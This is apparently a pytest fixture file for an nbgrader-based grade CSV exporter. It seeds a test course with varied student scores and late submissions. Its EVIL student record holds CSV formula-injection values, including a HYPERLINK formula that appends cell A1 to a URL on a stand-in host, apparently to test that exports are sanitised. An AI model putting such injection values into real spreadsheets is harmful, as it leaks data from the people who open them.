"""A class with every kind of standing, written with nbgrader's own interface."""

import csv
from datetime import datetime, timedelta

import pytest
from nbgrader.api import Gradebook

from autograder.course.stock import Stock
from tests.autograder.classroom import ASSIGNMENT, make_course

DUE = datetime(2026, 3, 1, 12)
FULL = {
    "double--small": 1,
    "double--hidden": 2,
    "mean--small": 1,
    "mean--hidden": 1,
    "mean--why": 2,
}
CLASS = {
    "full": FULL,
    "manual": {**FULL, "mean--why": None},
    "ungraded": {**FULL, "mean--hidden": None},
    "late": {**FULL, "double--hidden": 0},
    "zero": dict.fromkeys(FULL, 0),
}
EVIL = {
    "last_name": '=HYPERLINK("http://x.y?"&A1,"Ana")',
    "first_name": '@Ana, the "second"\nline',
    "email": "+1",
}


@pytest.fixture(scope="session")
def course(tmp_path_factory):
    """A graded course of two assignments; the second has two notebooks and one submission."""
    course = make_course(tmp_path_factory.mktemp("export") / "course")
    stock = Stock(course)
    stock.generate_assignment(ASSIGNMENT)
    with Gradebook(stock.db_url, "sums") as gradebook:
        gradebook.update_or_create_assignment(ASSIGNMENT, duedate=DUE)
        gradebook.add_student("absent", lms_user_id="17", **EVIL)
        for student, scores in CLASS.items():
            gradebook.add_student(student)
            hand_in(gradebook, ASSIGNMENT, student, scores)
        submission = gradebook.find_submission(ASSIGNMENT, "late")
        submission.timestamp = DUE + timedelta(hours=26, seconds=5)
        submission.notebooks[0].late_submission_penalty = 1.5
        gradebook.add_assignment("02_more", duedate=DUE + timedelta(days=7))
        for notebook in ("a", "b"):
            gradebook.add_notebook(notebook, "02_more")
            gradebook.add_grade_cell("q", notebook, "02_more", max_score=1, cell_type="code")
        gradebook.add_task_cell("draw", "b", "02_more", max_score=4, cell_type="markdown")
        hand_in(gradebook, "02_more", "full", {"q": 1, "draw": None})
        for grade in gradebook.find_submission("02_more", "full").notebooks[1].grades:
            if grade.name == "draw":
                grade.manual_score, grade.extra_credit = 3, 0.5
                grade.needs_manual_grade = False
        gradebook.db.commit()
    return course


def hand_in(gradebook, assignment, student, scores):
    time = DUE - timedelta(hours=1)
    with gradebook.db.no_autoflush:  # nbgrader's own query would warn
        submission = gradebook.add_submission(assignment, student, timestamp=time)
    for grade in (grade for notebook in submission.notebooks for grade in notebook.grades):
        grade.auto_score = scores[grade.name]
        grade.needs_manual_grade = grade.auto_score is None
    gradebook.db.commit()


@pytest.fixture
def export(course, tmp_path):
    """Return a function that exports and gives the rows back as lists of texts."""

    def run(exporter, *assignments, **settings):
        path = tmp_path / "out.csv"
        plugin = exporter(to=str(path), assignment=list(assignments), **settings)
        with Gradebook(f"sqlite:///{course.gradebook}", "sums") as gradebook:
            plugin.export(gradebook)
        return read(path) if path.exists() else sorted(tmp_path.iterdir())

    return run


def read(path):
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))
